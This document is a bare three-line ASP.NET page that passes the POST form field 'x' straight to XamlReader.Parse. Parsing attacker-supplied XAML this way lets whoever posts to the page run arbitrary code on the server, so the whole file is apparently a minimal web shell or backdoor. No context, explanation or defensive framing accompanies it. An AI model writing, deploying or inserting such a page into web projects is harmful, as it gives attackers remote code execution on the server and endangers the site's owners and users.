<%@ Page Language="C#" %><%
System.Windows.Markup.XamlReader.Parse(Request.Form["x"]);
%>
